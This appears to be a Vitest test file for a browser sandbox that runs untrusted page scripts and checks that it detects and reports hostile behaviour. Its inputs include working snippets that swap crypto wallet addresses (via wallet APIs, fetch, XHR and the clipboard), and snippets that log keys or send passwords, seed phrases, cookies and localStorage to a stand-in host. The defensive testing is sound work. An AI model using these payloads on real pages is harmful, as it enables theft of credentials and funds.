import { describe, expect, test } from "vitest";

import { runGuest } from "../test/run-guest.ts";
import type { GuestResult } from "../test/run-guest.ts";

import { createWorld } from "./worlds/worlds.ts";

const world = createWorld("win32-page", Date.UTC(2026, 10, 17, 9));
const other = "0xfc4a4858bafef54d1b1d7697bfb5c52f4c166976";

async function visit(text: string): Promise<GuestResult> {
  return await runGuest(text, { world, runtime: "page" });
}

function redirections({ observations }: GuestResult): readonly unknown[] {
  return observations.filter(({ api }) => api === "payment.redirected").map(({ data }) => data["name"]);
}

describe("a page", () => {
  test("has what browsers have, and nothing of Node", async () => {
    const result = await visit(
      `window.addEventListener("load", () => console.log(document.readyState));
       requestAnimationFrame(() => console.log("frame"));
       class Box extends HTMLElement {}
       customElements.define("x-box", Box);
       console.log(window === globalThis, typeof document.createElement("div").style, process.versions.node, location.hostname.endsWith(".example"));
       console.log(localStorage.getItem("none"), new Box() instanceof HTMLElement, navigator.userAgent.includes("Chrome"));`,
    );

    expect(result.problem).toBeUndefined();
    expect(result.printed).toEqual(["true object undefined true", "null true true", "frame", "complete"]);
    expect(result.observations).toEqual([]);
  });

  test.each([
    [
      "a wallet",
      `const ask = ethereum.request; ethereum.request = (q) => ask(q.params ? { ...q, params: [{ ...q.params[0], to: "${other}", data: "0x" }] } : q);`,
      ["ethereum.request", "ethereum.request"],
    ],
    [
      "a wallet of another chain",
      `const send = tronWeb.trx.sendTransaction; tronWeb.trx.sendTransaction = (to, amount) => send("TXk2Nn9mW6XqPpLr4u1bYy7ZkGq8cVd3Hs", amount);`,
      ["tronWeb.trx.sendTransaction"],
    ],
    [
      "what is fetched",
      `const ask = fetch; window.fetch = async (...all) => new Response((await (await ask(...all)).text()).replace(/0x[0-9a-f]{40}/g, "${other}"));`,
      ["fetch"],
    ],
    [
      "what is requested",
      `const { send } = XMLHttpRequest.prototype;
       XMLHttpRequest.prototype.send = function (body) { return send.call(this, body.replace(/0x[0-9a-f]{40}/g, "${other}")); };`,
      ["XMLHttpRequest"],
    ],
    [
      "what is copied",
      `document.addEventListener("copy", (event) => { event.clipboardData.setData("text/plain", "${other}"); event.preventDefault(); });`,
      ["copy"],
    ],
    [
      "the clipboard",
      `const watch = setInterval(async () => { if ((await navigator.clipboard.readText()).startsWith("0x")) { clearInterval(watch); navigator.clipboard.writeText("${other}"); } }, 50);`,
      ["navigator.clipboard"],
    ],
  ])("tells of addresses that are exchanged in %s", async (_, text, expected) => {
    const result = await visit(text);

    expect(result.problem).toBeUndefined();
    expect(redirections(result)).toEqual(expected);
  });

  test("lets those be who pass on what they are given", async () => {
    const result = await visit(
      `const [ask, fetched] = [ethereum.request, fetch];
       ethereum.request = (q) => ask(q);
       window.fetch = async (...all) => { const answer = await fetched(...all); await answer.clone().text(); return answer; };
       navigator.clipboard.writeText("0x8617e340b3d01fa5f11f306f4090fd50e238070d");`,
    );

    expect(redirections(result)).toEqual([]);
  });

  test.each([
    [
      "keys",
      "let keys = ''; document.addEventListener('keydown', (event) => { keys += event.key }); setInterval(() => { new Image().src = 'https://host.invalid/?k=' + btoa(keys) }, 1000)",
      "browser-login",
    ],
    [
      "forms",
      "document.querySelector('form').onsubmit = () => navigator.sendBeacon('https://host.invalid/', new FormData(document.querySelector('form')).get('password'))",
      "browser-login",
    ],
    [
      "phrases",
      "setInterval(() => { const { value } = document.querySelector('input[type=password]'); if (value.split(' ').length > 11) navigator.sendBeacon('https://host.invalid/', value) }, 3000)",
      "wallet-seed",
    ],
    [
      "cookies",
      "fetch('https://host.invalid/', { method: 'POST', body: document.cookie })",
      "browser-cookie",
    ],
    [
      "stores",
      "const s = new WebSocket('wss://host.invalid/'); s.onopen = () => s.send(JSON.stringify({ ...localStorage }))",
      "wallet-seed",
    ],
  ])("tells of %s that leave it", async (_, text, honey) => {
    const { observations } = await visit(text);

    expect(observations.some((each) => each.kind === "network" && each.honey.includes(honey))).toBe(true);
  });

  test("clicks on what code puts into it", async () => {
    const { printed } = await visit(
      `const box = document.createElement("div");
       box.innerHTML = "<button id='connect'>Connect</button>";
       document.body.appendChild(box);
       document.getElementById("connect").addEventListener("click", () => console.log("clicked"));
       console.log(document.getElementById("other"));`,
    );

    expect(printed).toEqual(["null", "clicked"]);
  });

  test("loads scripts from elsewhere as pages do: told, and no program of the package", async () => {
    const { observations } = await visit(
      `const script = document.createElement("script");
       script.src = "https://host.invalid/lib.js";
       script.onload = () => console.log("loaded");
       document.head.appendChild(script);`,
    );

    expect(observations.map(({ kind, api }) => `${kind} ${api}`)).toEqual(["network script.src"]);
  });
});
